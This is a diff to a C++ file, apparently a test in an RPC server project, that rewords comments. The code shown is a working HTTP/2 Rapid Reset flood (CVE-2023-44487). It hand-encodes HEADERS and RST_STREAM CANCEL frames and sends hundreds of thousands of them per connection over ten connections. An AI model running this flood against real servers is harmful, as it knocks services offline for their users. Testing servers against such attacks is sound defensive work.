@@ -1,4 +1,5 @@
-// Strangers begin calls and drop each at once: the server works, the attacker does not (CVE-2023-44487).
+// Unauthenticated clients start calls and cancel each immediately: costly for the server, cheap for them
+// (CVE-2023-44487).
 #include <string>
 #include <thread>
 #include <vector>
@@ -12,16 +13,16 @@ namespace kinora {
 namespace {
 
 constexpr int kConnections = 10;
-constexpr uint32_t kCalls = 200'000;  // of each connection
+constexpr uint32_t kCalls = 200'000;  // per connection
 constexpr absl::Duration kAttack = absl::Seconds(15);
 
-// HTTP/2 (RFC 9113): HEADERS of a call to a method that is not there, then RST_STREAM with CANCEL.
+// HTTP/2 (RFC 9113): HEADERS of a call to an unknown method, then RST_STREAM with CANCEL.
 std::string BegunAndDropped(uint32_t stream) {
   const auto big_endian = [](uint32_t value) {
     return std::string{static_cast<char>(value >> 24), static_cast<char>(value >> 16), static_cast<char>(value >> 8),
                        static_cast<char>(value)};
   };
-  // :method POST, :scheme http, then literals without indexing: :path (its name is number 4) and content-type (31).
+  // :method POST, :scheme http, then literals without indexing: :path (name index 4) and content-type (31).
   static const std::string kFields =
       absl::StrCat("\x83\x86", std::string("\x04\x02/x", 4), std::string("\x0f\x10\x10", 3), "application/grpc");
   const std::string length = big_endian(static_cast<uint32_t>(kFields.size())).substr(1);
@@ -38,7 +39,7 @@ void Reset(const std::string& address, Effort& effort) {
   uint32_t begun = 0;
   for (const absl::Time end = clock.Now() + kAttack; clock.Now() < end && (begun < kCalls || !out.empty());) {
     for (; begun < kCalls && out.size() < 1 << 16; ++begun) out += BegunAndDropped(2 * begun + 1);
-    const int n = SendSome(socket, out);  // what the server answers is not read
+    const int n = SendSome(socket, out);  // the server's answers are not read
     if (n < 0) return;
     effort.bytes += n;
     out.erase(0, static_cast<size_t>(n));
